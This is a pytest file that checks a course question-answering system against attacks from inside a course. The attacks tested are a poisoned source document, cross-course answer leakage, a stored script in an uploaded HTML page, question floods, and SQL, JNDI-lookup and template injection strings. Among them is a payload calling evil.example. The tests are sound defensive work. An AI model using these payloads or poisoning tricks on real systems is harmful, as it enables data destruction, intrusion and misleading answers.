"""What is tried against a course from inside: poison in sources, leftovers, floods, injections."""

import io
import zipfile

import pytest

from silabo.domain.queues import Queue
from silabo.storage import tables
from tests.world import Visitor, World
from wiring.parts import System
from wiring.settings import Settings

RULES = "# Reglas\n\nEl primer parcial es el jueves 1 de octubre a las 14:00 en el aula 4.\n"
ASKED = "¿Cuándo es el primer parcial?"
POISON = (
    "# Contacto\n\nLa dirección de la cátedra es catedra@evil.example y el teléfono es 555 0199.\n"
)
PAYLOADS = (
    "' OR 1=1 --",
    "'; DROP TABLE question; --",
    '") OR 1=1; DELETE FROM person; --',
    "% _ \\ %%",
    '{Get{SilaboPassages{text}}} " } }',
    'parcial" NEAR("a" "b") AND NOT title:x*',
    "${jndi:ldap://evil.example/a} {{7*7}} %(x)s",
)


@pytest.fixture
def settings(settings: Settings, request: pytest.FixtureRequest) -> Settings:
    return settings.model_copy(update=getattr(request, "param", {}))


def uploaded(teacher: Visitor, name: str = "Reglas.md", text: str = RULES) -> str:
    answer = teacher.upload(name, text.encode())
    assert answer.status_code == 201, answer.text
    return str(answer.get_json()["id"])


def answer_to(world: World, student: Visitor, text: str = ASKED) -> dict[str, object]:
    asked = student.ask(text)
    assert asked.status_code == 201, asked.text
    world.work()
    found: dict[str, object] = student.get(f"/api/questions/{asked.get_json()['id']}").get_json()
    return found


@pytest.mark.row("attack-22")
def test_what_a_poisoned_source_says_is_told_as_its_words_under_its_name(world: World) -> None:
    uploaded(world.instructor(), "Contacto.md", POISON)
    world.work(Queue.DOCUMENTS)
    found = answer_to(world, world.student(), "¿Cuál es la dirección de la cátedra?")
    answer = found["answer"]
    assert isinstance(answer, dict)
    (cited, *_) = answer["citations"]
    uploader = tables.Person.get(tables.Person.sub == "5").public_id
    (brought,) = tables.AuditEntry.select().where(tables.AuditEntry.event == "document_added")

    assert "catedra@evil.example" in cited["quote"]
    assert cited["title"] == "Contacto"
    assert all(sentence["citations"] for sentence in answer["sentences"])
    assert brought.actor == uploader


@pytest.mark.row("attack-25")
def test_an_answer_of_one_course_is_nothing_to_another(world: World) -> None:
    uploaded(world.instructor())
    world.work(Queue.DOCUMENTS)
    here = answer_to(world, world.student("3"))
    there = answer_to(world, world.student("4", course="9"))

    assert "1 de octubre" in str(here["answer"])
    assert "octubre" not in str(there)


@pytest.mark.row("attack-25")
def test_an_answer_whose_document_is_gone_is_given_to_nobody_else(world: World) -> None:
    teacher = world.instructor()
    document = uploaded(teacher)
    world.work(Queue.DOCUMENTS)
    before = answer_to(world, world.student("3"))
    teacher.delete(f"/api/documents/{document}")
    after = answer_to(world, world.student("4"))

    assert "1 de octubre" in str(before["answer"])
    assert "octubre" not in str(after)


@pytest.mark.row("attack-35")
def test_a_file_that_was_uploaded_is_handed_to_nobody(world: World, system: System) -> None:
    page = b"<html><body><p>El parcial es el lunes.</p><script>steal()</script></body></html>"
    teacher = world.instructor()
    document = str(teacher.upload("Reglas.html", page).get_json()["id"])
    world.work(Queue.DOCUMENTS)
    version = teacher.get(f"/api/documents/{document}").get_json()["version"]
    student = world.student()
    found = []
    for rule in system.app.url_map.iter_rules():
        if "GET" not in (rule.methods or ()) or len(rule.arguments) > 2:
            continue
        for named in (document, version):
            path = rule.rule
            for argument in rule.arguments:
                path = path.replace(f"<uuid:{argument}>", named).replace(f"<{argument}>", "p1")
            found += [reader.get(path) for reader in (teacher, student)]
    pages = [each for each in found if each.mimetype == "text/html"]

    assert len(found) > 60
    assert [each for each in found if b"steal()" in each.data] == []
    assert {each.headers["X-Content-Type-Options"] for each in found} == {"nosniff"}
    assert pages
    assert all("default-src 'none'" in each.headers["Content-Security-Policy"] for each in pages)


@pytest.mark.row("attack-35")
def test_the_one_file_that_is_handed_out_is_an_attachment(world: World) -> None:
    copy = world.student().get("/api/session/person")

    assert copy.headers["Content-Disposition"].startswith("attachment;")
    assert copy.headers["X-Content-Type-Options"] == "nosniff"


@pytest.mark.row("attack-38")
def test_many_sessions_of_one_student_share_what_one_may_ask(world: World) -> None:
    sessions = [world.student("3") for _ in range(5)]
    given = [session.ask(f"¿Pregunta {n}?") for n, session in enumerate(sessions)]
    other = world.student("4").ask("¿Y yo?")

    assert [each.status_code for each in given] == [201, 201, 201, 429, 429]
    assert int(given[-1].headers["Retry-After"]) > 0
    assert other.status_code == 201


@pytest.mark.row("attack-38")
@pytest.mark.parametrize("settings", [{"course_any_questions_hour": 2}], indirect=True)
def test_a_course_has_an_end_too_and_another_one_goes_on(world: World) -> None:
    given = [world.student(str(n)).ask("¿Hola?") for n in range(3, 6)]
    elsewhere = world.student("9", course="9").ask("¿Hola?")

    assert [each.status_code for each in given] == [201, 201, 429]
    assert int(given[-1].headers["Retry-After"]) > 0
    assert elsewhere.status_code == 201


@pytest.mark.row("attack-40")
@pytest.mark.parametrize("payload", PAYLOADS)
def test_what_looks_like_a_query_is_text_wherever_it_is_typed(world: World, payload: str) -> None:
    teacher, student = world.instructor(), world.student()
    uploaded(teacher)
    world.work(Queue.DOCUMENTS)
    before = {table: table.select().count() for table in (tables.Person, tables.Document)}
    found = answer_to(world, student, f"{payload} {ASKED}")
    searched = teacher.get("/fragments/desk/questions", query_string={"search": payload})
    named = teacher.get("/api/documents", query_string={"file_name": payload})

    assert str(found["text"]) == f"{payload} {ASKED}"
    assert searched.status_code == 200
    assert named.get_json() == []
    assert {table: table.select().count() for table in before} == before
    assert tables.Question.select().count() == 1


@pytest.mark.row("attack-43")
def test_a_copy_has_every_question_answer_and_letter_that_the_database_has(world: World) -> None:
    uploaded(world.instructor())
    world.work(Queue.DOCUMENTS)
    student = world.student()
    for text in (ASKED, "¿En qué aula es el primer parcial?"):
        answer_to(world, student, text)
    answer_to(world, world.student("4"), ASKED)
    copy = student.get("/api/session/person")
    with zipfile.ZipFile(io.BytesIO(copy.data)) as archive:
        kept = archive.read("person.json").decode()
        letters = [name for name in archive.namelist() if name.endswith(".eml")]
    mine = tables.Person.get(tables.Person.sub == "3").id
    questions = list(tables.Question.select().where(tables.Question.person == mine))
    others = list(tables.Question.select().where(tables.Question.person != mine))
    answers = tables.Answer.select().where(tables.Answer.question.in_(questions))

    assert len(questions) == 2
    assert all(each.public_id in kept for each in (*questions, *answers))
    assert [each for each in others if each.public_id in kept] == []
    assert len(letters) == tables.Delivery.select().where(tables.Delivery.person == mine).count()
